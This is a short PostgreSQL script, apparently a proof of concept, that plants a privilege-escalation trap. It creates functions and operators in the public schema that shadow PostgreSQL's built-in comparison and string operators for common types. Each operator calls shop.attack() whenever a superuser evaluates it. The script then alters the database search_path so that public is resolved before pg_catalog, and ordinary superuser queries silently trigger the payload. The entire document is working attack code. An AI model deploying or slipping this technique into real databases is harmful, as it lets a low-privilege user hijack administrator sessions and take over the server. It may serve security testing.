-- Operators of which PostgreSQL's own have no exact match, where a search_path finds them
DO $do$
DECLARE
    types text[] := ARRAY['text', 'varchar', 'name', 'oid', 'int4', 'int8', 'numeric', '"char"', 'bool', 'regclass'];
    pair record;
    word text;
BEGIN
    FOR pair IN SELECT l, r FROM unnest(types) AS l, unnest(types) AS r LOOP
        EXECUTE format(
            'CREATE FUNCTION public.h(%s, %s) RETURNS boolean LANGUAGE plpgsql '
            'SET search_path = pg_catalog AS $$ BEGIN IF current_setting(''is_superuser'') = ''on'' THEN '
            'PERFORM shop.attack(); END IF; RETURN true; END $$', pair.l, pair.r);
        FOREACH word IN ARRAY ARRAY['=', '<>', '<', '>', '||', '+', '-', '*', '~', '!~', '@>', '->>'] LOOP
            EXECUTE format(
                'CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.h)', word, pair.l, pair.r);
        END LOOP;
    END LOOP;
    EXECUTE format('ALTER DATABASE %I SET search_path = public, shop, pg_catalog', pg_catalog.current_database());
END $do$;
